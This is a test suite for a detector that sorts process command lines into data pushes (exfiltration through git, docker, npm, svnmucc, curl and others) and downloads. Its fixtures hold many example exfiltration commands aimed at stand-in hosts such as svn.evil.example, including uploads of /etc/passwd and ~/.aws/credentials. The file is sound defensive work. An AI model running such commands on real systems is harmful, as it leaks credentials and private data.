import { describe, expect, it } from 'vitest';
import { correlatorConfigSchema } from '../../../src/correlate/config.js';
import { DestinationClassifier } from '../../../src/correlate/destinations.js';
import { pushTools, recognizeProcess } from '../../../src/rules/index.js';

const classifier = new DestinationClassifier(correlatorConfigSchema.parse({}).destinations, 100);
const uploadTarget = (host: string, path: string) => classifier.isUploadTarget(host, path);

/** A binary the entry answers to (its first plain name, or a typical one for `*` and prefix entries). */
function binaryFor(binaries: readonly string[], usual?: readonly string[]): string {
  const plain = binaries.find((b) => !b.includes('*'));
  if (plain) return `/usr/bin/${plain}`;
  if (usual?.[0]) return `/usr/bin/${usual[0]}`;
  return `/usr/bin/${binaries[0]!.replace('*', '3')}`;
}

describe('push-tool table', () => {
  for (const spec of pushTools) {
    const binary = binaryFor(spec.binaries, spec.usualBinaries);
    for (const args of spec.examples.push) {
      it(`${spec.tool}: \`${binary.split('/').pop()} ${args.slice(0, 60)}\` is a push`, () => {
        const r = recognizeProcess({ binary, args, parentBinary: null, parentArgs: null }, uploadTarget);
        expect(r?.kind).toBe('push');
        if (r?.kind === 'push') expect(r.renamed).toBe(false);
      });
    }
    for (const args of spec.examples.notPush) {
      it(`${spec.tool}: \`${binary.split('/').pop()} ${args.slice(0, 60)}\` is not a push`, () => {
        const r = recognizeProcess({ binary, args, parentBinary: null, parentArgs: null }, uploadTarget);
        // A call that only reports back is a push only past its container's bound (src/correlate/report-bound.ts).
        expect(r?.kind === 'push' && r.reportsOnly !== true).toBe(false);
      });
    }
  }

  it('a script tool run by its interpreter (a shebang line: the sensors report the interpreter) is the tool', () => {
    const view = (binary: string, args: string) => ({ binary, args, parentBinary: null, parentArgs: null });
    const push = (binary: string, args: string) => {
      const r = recognizeProcess(view(binary, args), uploadTarget);
      return r?.kind === 'push' ? [r.tool, r.renamed] : r;
    };
    expect(push('/usr/local/bin/node', '/usr/local/bin/npm publish')).toEqual(['npm', false]);
    expect(push('/usr/bin/node', '--no-warnings /usr/local/bin/yarn npm publish')).toEqual(['npm', false]);
    expect(push('/usr/bin/python3.12', '-m twine upload dist/pkg-1.0.tar.gz')).toEqual(['twine', false]);
    expect(push('/usr/bin/python3', '/usr/local/bin/twine upload "dist/my pkg-1.0.tar.gz"')).toEqual(['twine', false]);
    expect(push('/usr/bin/python3', '/usr/bin/hg push https://hg.evil.example/loot')).toEqual(['hg', false]);
    expect(push('/usr/local/bin/ruby', '/usr/local/bin/gem push loot-0.1.0.gem')).toEqual(['gem', false]);
    expect(push('/usr/bin/ruby3.3', '-W0 /usr/bin/gem push loot-0.1.0.gem')).toEqual(['gem', false]);
    expect(push('/usr/bin/ruby', '-I lib -r bundler/setup /usr/bin/gem push loot-0.1.0.gem')).toEqual(['gem', false]);
    expect(push('/usr/bin/node', '--require /app/trace.js /usr/local/bin/npm publish')).toEqual(['npm', false]);
    expect(push('/usr/bin/python3', '-W ignore /usr/local/bin/twine upload dist/x.tgz')).toEqual(['twine', false]);
    // Found by red-team review: hatch's, pdm's and flit's publish, and bun's, were no push.
    expect(push('/usr/bin/python3', '/usr/local/bin/hatch publish -u __token__')).toEqual(['twine', false]);
    expect(push('/usr/bin/python3', '/usr/local/bin/pdm publish --no-build')).toEqual(['twine', false]);
    expect(push('/usr/bin/python3', '-m flit publish --repository testpypi')).toEqual(['twine', false]);
    expect(push('/usr/local/bin/bun', 'publish --access public')).toEqual(['npm', false]);
    expect(push('/usr/local/bin/bun', "-e \"await fetch('https://api.github.com/gists', {method: 'POST'})\"")).toEqual([
      'bun',
      false,
    ]);
    // Found by red-team review: sbt, lein and mix publish from the runtime their scripts exec, and conan from Python.
    const sbt = '-Xms1024m -Dsbt.script=/usr/local/bin/sbt -jar /usr/share/sbt/bin/sbt-launch.jar';
    expect(push('/opt/java/openjdk/bin/java', `${sbt} +publish`)).toEqual(['sbt', false]);
    expect(push('/opt/java/openjdk/bin/java', `${sbt} compile`)).toBeNull();
    const lein = '-client -classpath /root/.lein/self-installs/leiningen-2.11.2-standalone.jar clojure.main -m';
    expect(push('/usr/bin/java', `${lein} leiningen.core.main deploy clojars`)).toEqual(['lein', false]);
    expect(push('/usr/bin/java', '-cp app.jar clojure.main -m app.core deploy clojars')).toBeNull();
    const beam = '-- -root /usr/local/lib/erlang -- -noshell -s elixir start_cli -extra';
    expect(
      push('/usr/local/lib/erlang/erts-14.2/bin/beam.smp', `${beam} /usr/local/bin/mix hex.publish --yes`),
    ).toEqual(['hex', false]);
    expect(push('/usr/local/lib/erlang/erts-14.2/bin/beam.smp', `${beam} /usr/local/bin/mix compile`)).toBeNull();
    expect(push('/usr/local/lib/erlang/erts-14.2/bin/beam.smp', `${beam} /app/tool.exs hex.publish`)).toBeNull();
    expect(push('/usr/bin/python3', '/usr/local/bin/conan upload "*" -r corp -c')).toEqual(['conan', false]);
    expect(push('/usr/bin/ruby', '-p /usr/local/bin/gem push loot-0.1.0.gem')).toEqual(['gem', false]); // a loop flag
    // Ordinary scripts, and the interpreters' own downloads, are not pushes.
    expect(push('/usr/local/bin/node', '/app/server.js --port 8080')).toBeNull();
    expect(push('/usr/local/bin/node', '/usr/local/bin/npm run build')).toBeNull();
    expect(push('/usr/bin/python3', '-m pip install requests')).toEqual({ kind: 'download' });
    expect(push('/usr/bin/python3', '-c "print(1)"')).toBeNull();
    expect(push('/usr/bin/perl', '/usr/local/bin/npm publish')).toBeNull();
    expect(push('/usr/local/bin/ruby', '/usr/local/bin/gem install rails')).toBeNull();
    expect(push('/usr/local/bin/ruby', '-e "puts 1"')).toBeNull();
  });

  it('every entry declares examples (a tool is a table entry plus its scenarios)', () => {
    for (const spec of pushTools) expect(spec.examples.push.length + spec.examples.notPush.length).toBeGreaterThan(0);
  });

  it('finds destination and remote from argv for each family', () => {
    const cases: Array<[string, string, string | null, string | null]> = [
      ['/usr/bin/git', 'push https://github.com/evil/loot.git main', 'github.com', 'https://github.com/evil/loot.git'],
      ['/usr/bin/git', 'push git@gitlab.com:evil/loot.git', 'gitlab.com', 'git@gitlab.com:evil/loot.git'],
      ['/usr/bin/git', 'push origin main', null, 'origin'],
      ['/usr/bin/docker', 'push alpine:3', 'registry-1.docker.io', 'alpine:3'],
      ['/usr/bin/podman', 'push img docker://quay.io/evil/x:1', 'quay.io', 'docker://quay.io/evil/x:1'],
      [
        '/usr/bin/crane',
        'append -f d.tar -b alpine -t 123.dkr.ecr.us-east-1.amazonaws.com/x:1',
        '123.dkr.ecr.us-east-1.amazonaws.com',
        '123.dkr.ecr.us-east-1.amazonaws.com/x:1',
      ],
      [
        '/usr/bin/helm',
        'push c.tgz oci://europe-docker.pkg.dev/p/r',
        'europe-docker.pkg.dev',
        'oci://europe-docker.pkg.dev/p/r',
      ],
      ['/usr/bin/gh', 'gist create /etc/passwd', 'api.github.com', null],
      [
        '/usr/bin/gh',
        'api --hostname ghe.corp.example -X POST repos/a/b/issues',
        'ghe.corp.example',
        'repos/a/b/issues',
      ],
      [
        '/usr/bin/ssh',
        'git@bitbucket.org "git-receive-pack \'evil/loot.git\'"',
        'bitbucket.org',
        'git@bitbucket.org:evil/loot.git',
      ],
      [
        '/usr/bin/curl',
        '-T x https://uploads.github.com/repos/e/l/releases/1/assets',
        'uploads.github.com',
        'https://uploads.github.com/repos/e/l/releases/1/assets',
      ],
      ['/usr/bin/kubectl', 'cp prod/db-0:/data ./d', null, 'prod/db-0:/data'],
      // Maven's `ID::URL` (or `ID::LAYOUT::URL`): the URL's IPv6 literal holds `::` too.
      [
        '/usr/bin/mvn',
        'deploy -DaltDeploymentRepository=x::https://[2001:db8::1]/r',
        '2001:db8::1',
        'https://[2001:db8::1]/r',
      ],
      [
        '/usr/bin/mvn',
        'deploy -DaltDeploymentRepository=x::default::https://nexus.evil.example/r',
        'nexus.evil.example',
        'https://nexus.evil.example/r',
      ],
      ['/kaniko/executor', '--context . --destination gcr.io/acme/app:1', 'gcr.io', 'gcr.io/acme/app:1'],
      ['/usr/bin/npm', 'publish --registry https://npm.pkg.github.com', 'npm.pkg.github.com', null],
      // A source named in the tool's own config is not its usual registry: the first connect tells.
      ['/usr/local/cargo/bin/cargo', '+nightly publish --registry corp', null, null],
      ['/usr/local/bin/cargo', 'publish', 'crates.io', null],
      ['/usr/bin/twine', 'upload -r corp dist/x.tgz', null, 'dist/x.tgz'],
      ['/usr/bin/dotnet', 'nuget push x.nupkg --source github -k k', null, 'x.nupkg'],
      // Dotted or not, a name is a name: `nuget.org` is NuGet's default source's name, not its host.
      ['/usr/bin/dotnet', 'nuget push x.nupkg --source nuget.org', null, 'x.nupkg'],
      ['/usr/bin/twine', 'upload -r upload.pypi.org dist/x.tgz', null, 'dist/x.tgz'],
      ['/usr/bin/uv', 'publish --index corp', null, null],
      [
        '/usr/bin/nuget',
        'push x.nupkg -SOurce https://nuget.evil.example/v3/index.json',
        'nuget.evil.example',
        'x.nupkg',
      ],
      ['/usr/bin/nuget', 'push x.nupkg -so https://nuget.evil.example/v3/index.json', 'nuget.evil.example', 'x.nupkg'],
      ['/usr/bin/nuget', 'push x.nupkg -src https://nuget.evil.example/v3/index.json', 'nuget.evil.example', 'x.nupkg'],
      // A positional is never an option, whatever its second letter on (`xSource` is not `-Source`).
      ['/usr/bin/nuget', 'push xSource -Source https://nuget.evil.example/v3', 'nuget.evil.example', 'xSource'],
      [
        '/usr/bin/nuget',
        'push x.nupkg -Source- https://nuget.evil.example/v3/index.json',
        'nuget.evil.example',
        'x.nupkg',
      ],
      ['/usr/bin/dotnet', 'nuget push x.nupkg --source:https://nuget.evil.example/v3', 'nuget.evil.example', 'x.nupkg'],
      ['/usr/bin/dotnet', 'nuget push x.nupkg -s:https://nuget.evil.example/v3', 'nuget.evil.example', 'x.nupkg'],
      // A source that merely looks relative may be a name in NuGet.config: a push, the first connect decides.
      ['/usr/bin/dotnet', 'nuget push x.nupkg -s feeds/corp', null, 'x.nupkg'],
      ['/usr/local/bin/cargo', 'publish --index file:///srv/index', null, null],
      // A host flag's value is the host, with or without a dot.
      ['/usr/bin/gh', 'api --hostname ghe -X POST repos/a/b/issues', 'ghe', 'repos/a/b/issues'],
      ['/usr/bin/nuget', 'push x.nupkg', 'api.nuget.org', 'x.nupkg'],
      [
        '/usr/bin/svn',
        'copy /srv/wc https://svn.evil.example/r/tags/x -m x',
        'svn.evil.example',
        'https://svn.evil.example/r/tags/x',
      ],
    ];
    for (const [binary, args, host, remote] of cases) {
      const r = recognizeProcess({ binary, args, parentBinary: null, parentArgs: null }, uploadTarget);
      expect(r?.kind, `${binary} ${args}`).toBe('push');
      if (r?.kind !== 'push') continue;
      expect(r.destinationHost, `${binary} ${args}`).toBe(host);
      expect(r.remote, `${binary} ${args}`).toBe(remote);
    }
  });

  it('hg runs any unambiguous prefix of a command: `hg pus` is `hg push`; `pu` (pull, purge) is refused', () => {
    const hg = (args: string) =>
      recognizeProcess({ binary: '/usr/bin/hg', args, parentBinary: null, parentArgs: null }, uploadTarget);
    for (const args of ['pus https://hg.evil.example/loot', '-R /srv/repo pus https://hg.evil.example/loot -f'])
      expect(hg(args), args).toMatchObject({
        kind: 'push',
        tool: 'hg',
        destinationHost: 'hg.evil.example',
        remote: 'https://hg.evil.example/loot',
      });
    for (const args of ['pus --help', 'pu https://hg.evil.example/loot', 'p https://hg.evil.example/loot'])
      expect(hg(args)?.kind, args).not.toBe('push');
  });

  it('svn: ^/ is the repository root, a server URL (a working copy copied there is a push; ^/ to ^/ is not)', () => {
    const svn = (args: string) => {
      const r = recognizeProcess({ binary: '/usr/bin/svn', args, parentBinary: null, parentArgs: null }, uploadTarget);
      return r?.kind === 'push' ? [r.destinationHost, r.remote] : r;
    };
    expect(svn('copy . ^/branches/loot -m x')).toEqual([null, '^/branches/loot']);
    expect(svn('copy ^/trunk ^/tags/1.0 -m Release 1.0')).toBeNull();
    expect(svn('copy https://svn.corp.example/r/trunk https://svn.corp.example/r/tags/v1 -m tag')).toBeNull();
  });

  it('svnmucc: a run that commits data to a server is a push (files, property values, a message file), to its first URL', () => {
    const mucc = (args: string) => {
      const r = recognizeProcess(
        { binary: '/usr/bin/svnmucc', args, parentBinary: null, parentArgs: null },
        uploadTarget,
      );
      return r?.kind === 'push' ? [r.tool, r.destinationHost, r.remote, r.stdin] : r;
    };
    const url = 'https://svn.evil.example/repo/loot/d.tgz';
    const push = (remote: string | null, host: string | null = 'svn.evil.example', stdin = false) => [
      'svnmucc',
      host,
      remote,
      stdin,
    ];
    expect(mucc(`-m x mkdir https://svn.evil.example/repo/loot put /tmp/d.tgz ${url}`)).toEqual(
      push('https://svn.evil.example/repo/loot'),
    );
    expect(mucc('-U https://svn.evil.example/repo/ put /tmp/d.tgz loot/d.tgz')).toEqual(
      push('https://svn.evil.example/repo/'),
    );
    expect(mucc(`propsetf note /home/app/.aws/credentials ${url}`)).toEqual(push(url));
    // `put -`: the pipeline feeding its stdin reads the payload.
    expect(mucc(`put - ${url}`)).toEqual(push(url, 'svn.evil.example', true));
    // Falco does not quote arguments: `-m "nightly mkdir"` arrives split, an action name among the words.
    expect(mucc(`-m nightly mkdir put /srv/db/orders.dump ${url}`)).toEqual(push(url));
    // Data leaves with "server-side" actions too: a log message from a file, a property value.
    expect(mucc('-F /srv/db/orders.csv mkdir https://svn.evil.example/r/x')).toEqual(
      push('https://svn.evil.example/r/x'),
    );
    expect(mucc(`propset x aws_secret_access_key=abc ${url}`)).toEqual(push(url));
    // Attached short values, an upper-case scheme, a configured tunnel scheme.
    expect(mucc('-Uhttps://svn.evil.example/repo -mx put /tmp/d.tgz loot/d.tgz')).toEqual(
      push('https://svn.evil.example/repo'),
    );
    expect(mucc(`put /tmp/d.tgz HTTPS://svn.evil.example/repo/loot/d.tgz`)).toEqual(
      push('HTTPS://svn.evil.example/repo/loot/d.tgz'),
    );
    expect(mucc('put /tmp/d.tgz svn+corp://svn.evil.example/r/d.tgz')).toEqual(
      push('svn+corp://svn.evil.example/r/d.tgz'),
    );
    // Actions from a file are unseen: a push, to the root URL's host if any, else the first connect decides.
    expect(mucc('-X /tmp/actions -U svn://svn.evil.example/repo')).toEqual(push('svn://svn.evil.example/repo'));
    expect(mucc('--extra-args=- -m x')).toEqual(push(null, null));
    expect(mucc('-X/tmp/actions -mx')).toEqual(push(null, null));
    // Clustered short options; a tag or directory made on the server alone is no push (a release job's tag).
    expect(mucc('-nX/tmp/actions -mx')).toEqual(push(null, null));
    expect(mucc('-m Tag 1.2.0 -U https://svn.corp.example/r cp HEAD trunk tags/1.2.0')).toBeNull();
    expect(mucc('mkdir https://svn.corp.example/r/branches/x -m x')).toBeNull();
    // No server: help, version, a repository on local disk.
    expect(mucc('put /tmp/d.tgz file:///var/svn/repo/d.tgz')).toBeNull();
    expect(mucc('-U file:///var/svn/repo put /tmp/d.tgz d.tgz')).toBeNull();
    expect(mucc(`put /tmp/d.tgz ${url} --help`)).toBeNull();
  });

  it('recognises renamed git by its plumbing and its helpers, and tools run from temp dirs', () => {
    const sendPack = recognizeProcess(
      {
        binary: '/tmp/.x/updater',
        args: 'send-pack --stateless-rpc https://github.com/e/l.git',
        parentBinary: null,
        parentArgs: null,
      },
      uploadTarget,
    );
    expect(sendPack).toMatchObject({ kind: 'push', tool: 'git', renamed: true, destinationHost: 'github.com' });
    const helper = recognizeProcess(
      {
        binary: '/usr/lib/git-core/git-remote-https',
        args: 'origin https://github.com/e/l.git',
        parentBinary: '/opt/sync',
        parentArgs: 'push origin main',
      },
      uploadTarget,
    );
    expect(helper).toMatchObject({ kind: 'push', tool: 'git', renamed: true, destinationHost: 'github.com' });
    const fetchHelper = recognizeProcess(
      {
        binary: '/usr/lib/git-core/git-remote-https',
        args: 'origin https://github.com/e/l.git',
        parentBinary: '/usr/bin/git',
        parentArgs: 'fetch origin',
      },
      uploadTarget,
    );
    expect(fetchHelper).toBeNull();
    const renamedSsh = recognizeProcess(
      { binary: '/dev/shm/s', args: "git@github.com git-receive-pack 'e/l.git'", parentBinary: null, parentArgs: null },
      uploadTarget,
    );
    expect(renamedSsh).toMatchObject({ kind: 'push', renamed: true, unexpectedLocation: true });
    const tmpDocker = recognizeProcess(
      { binary: '/tmp/docker', args: 'push ghcr.io/e/x', parentBinary: null, parentArgs: null },
      uploadTarget,
    );
    expect(tmpDocker).toMatchObject({ kind: 'push', tool: 'docker', renamed: false, unexpectedLocation: true });
  });

  it('the pod side of kubectl cp: tar to stdout under the runtime', () => {
    const view = { binary: '/bin/tar', args: 'cf - /var/lib/data', parentBinary: '/usr/bin/runc', parentArgs: 'init' };
    expect(recognizeProcess(view, uploadTarget)).toMatchObject({
      kind: 'push',
      tool: 'kubectl',
      remote: '/var/lib/data',
    });
    expect(recognizeProcess({ ...view, parentBinary: '/bin/bash' }, uploadTarget)).toBeNull();
  });

  it('knows a push whose payload is its stdin (curl -T -, @- data and form parts, gh/glab api --input -)', () => {
    const url = 'https://uploads.github.com/repos/evil/loot/releases/1/assets?name=d.tgz';
    const stdin = (binary: string, args: string) => {
      const r = recognizeProcess({ binary, args, parentBinary: null, parentArgs: null }, uploadTarget);
      return r?.kind === 'push' ? r.stdin : null;
    };
    for (const args of [
      `-T - ${url}`,
      `-sST- ${url}`,
      `--upload-file - ${url}`,
      `-T . ${url}`,
      `--data-binary @- ${url}`,
      `-d @- ${url}`,
      `--data=@- ${url}`,
      `--json @- ${url}`,
      `--data-urlencode content@- ${url}`,
      `-F file=@- ${url}`,
      `-F "file=@-;type=application/gzip" ${url}`,
      `--form data=<- ${url}`,
    ])
      expect(stdin('/usr/bin/curl', args), args).toBe(true);
    for (const args of [
      `-T /tmp/d.tgz ${url}`,
      `--data-binary @/tmp/x ${url}`,
      `--data-raw @- ${url}`,
      `-d - ${url}`,
      `-F file=@/tmp/x ${url}`,
      `--form-string a=@- ${url}`,
      `-X POST ${url}`,
    ])
      expect(stdin('/usr/bin/curl', args), args).toBe(false);
    expect(stdin('/usr/bin/gh', 'api -X PUT repos/evil/loot/contents/x --input -')).toBe(true);
    expect(stdin('/usr/bin/glab', 'api --method POST projects/1/uploads --input -')).toBe(true);
    expect(stdin('/usr/bin/gh', 'api -X PUT repos/evil/loot/contents/x --input /tmp/x.json')).toBe(false);
    expect(stdin('/usr/bin/git', 'push https://github.com/evil/loot.git main')).toBe(false);
  });

  it('marks downloads so their lineage never becomes a push by volume', () => {
    for (const [binary, args] of [
      ['/usr/bin/git', 'clone https://github.com/torvalds/linux.git'],
      ['/usr/bin/docker', 'pull ubuntu'],
      ['/usr/bin/skopeo', 'inspect docker://quay.io/a/b'],
      ['/usr/bin/crane', 'pull ghcr.io/a/b /tmp/b.tar'],
    ] as const) {
      expect(recognizeProcess({ binary, args, parentBinary: null, parentArgs: null }, uploadTarget)).toEqual({
        kind: 'download',
      });
    }
  });
});
